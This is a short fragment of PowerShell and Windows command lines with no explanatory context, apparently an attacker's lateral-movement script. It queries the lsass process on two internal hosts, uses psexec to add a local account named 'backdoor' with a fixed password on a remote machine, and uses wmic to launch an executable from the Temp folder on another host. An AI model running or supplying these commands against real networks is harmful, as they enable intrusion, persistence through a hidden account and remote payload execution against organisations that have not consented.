$targets = @('fs01.corp.example.com', 'db02.corp.example.com')
foreach ($t in $targets) {
  Invoke-Command -ComputerName $t -ScriptBlock { Get-Process lsass }
}
psexec.exe \\198.51.100.12 -accepteula -s cmd /c "net user backdoor P@ss1 /add"
wmic /node:198.51.100.13 process call create "cmd.exe /c C:\Windows\Temp\svc.exe"
